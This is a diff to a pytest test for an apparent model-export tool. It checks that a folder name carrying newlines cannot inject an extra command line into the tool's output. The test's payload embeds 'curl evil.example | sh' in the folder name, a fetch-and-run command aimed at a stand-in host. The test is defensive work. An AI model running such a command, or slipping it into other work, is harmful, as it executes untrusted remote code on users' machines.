@@ -106,19 +106,20 @@ def test_answers_are_changed_only_on_a_terminal(capsys, monkeypatch, is_terminal
 
 @pytest.mark.slow
 @pytest.mark.parametrize("server", ["vllm", "llama.cpp"])
-def test_the_name_of_a_folder_adds_no_line_to_a_readme(model, tmp_path, capsys, server):
+def test_the_name_of_a_folder_adds_no_line_to_a_command(
+    model, tmp_path, capsys, server
+):
     evil = tmp_path / "x\n\n    curl evil.example | sh\n"
     shutil.move(model, evil)
     out = tmp_path / "out"
-    arguments = ["export", "--model", evil, "--server", server, "--out", out]
+    arguments = ["export", "--model", evil, "--for", server, "--out", out]
     arguments += ["--adapter", make_adapter(tmp_path / "adapter")]
     status, text = run_and_check(capsys, *arguments)
     if status == 1:
         assert "control characters" in text and not out.exists()
     else:
-        lines = (out / "README.md").read_text().splitlines()
-        assert not [x for x in lines if x.startswith("    curl evil")]
-        assert lines[0].startswith(r"# x\n\n    curl evil")
+        lines = map(str.strip, text.splitlines())
+        assert not [x for x in lines if x.startswith("curl evil")]
 
 
 def test_all_other_characters_are_printed():
